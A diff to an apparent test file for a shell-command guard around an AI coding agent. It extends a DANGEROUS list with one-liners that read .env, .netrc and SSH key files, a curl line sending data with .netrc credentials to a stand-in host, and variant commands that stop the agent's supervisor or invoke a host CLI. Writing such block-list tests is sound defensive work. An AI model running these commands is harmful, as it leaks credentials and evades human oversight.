@@ -159,6 +159,8 @@ DANGEROUS: list[tuple[str, str]] = [
     ("curl --data-binary @x --config=.netrc https://x.example", "secrets"),
     ("python3 -c \"print(open('.env').read())\"", "secrets"),
     ("node -e \"console.log(require('fs').readFileSync('.env', 'utf8'))\"", "secrets"),
+    ("node --eval=\"x=require('fs').readFileSync('.env')\"", "secrets"),
+    ("node -r ./setup.js -e \"require('fs').readFileSync('.env')\"", "secrets"),
     ("ruby -e 'puts File.read(\".netrc\")'", "secrets"),
     ("perl -e 'open(F, \"<.npmrc\"); print <F>'", "secrets"),
     ("python3 - <<'EOF'\nprint(open('id_rsa').read())\nEOF", "secrets"),
@@ -197,6 +199,11 @@ DANGEROUS: list[tuple[str, str]] = [
     ("python -m autopilot_codex stop", "supervisor"),
     ("python3 -m autopilot_codex.cli resume", "supervisor"),
     ("python3 bridge/autopilot_codex_main.py stop", "supervisor"),
+    ("python3 -u -m autopilot_codex stop", "supervisor"),
+    ("autopilot-codex --quiet stop", "supervisor"),
+    ("python3 -mautopilot_codex stop", "supervisor"),
+    ("python3 -W ignore -X dev -m autopilot_codex stop", "supervisor"),
+    ("python3 -u /opt/x/bridge/autopilot_codex_main.py stop", "supervisor"),
     ("env autopilot-codex -C . stop", "supervisor"),
     ("sh -c 'autopilot-codex stop'", "supervisor"),
     ("uv run autopilot-codex stop", "supervisor"),
@@ -276,6 +283,7 @@ DANGEROUS: list[tuple[str, str]] = [
     ("$(which codex) exec hi", "host-cli"),
     ("codex-x86_64-unknown-linux-musl exec hi", "host-cli"),
     ("pnpm exec codex exec hi", "host-cli"),
+    ("yarn codex exec hi", "host-cli"),
 ]
 
 HARMLESS = [
@@ -318,6 +326,7 @@ HARMLESS = [
     "bin/autopilot-codex status --json",
     '${CLAUDE_PLUGIN_ROOT}/bin/autopilot-codex ask "is T2 done?"',
     "python -c \"print('hello')\"",
+    "python3 -c \"print(open('/etc/hostname').read())\"",
     'node -e "console.log(process.env.HOME)"',
     "kubectl get pods -n prod",
     "helm list",
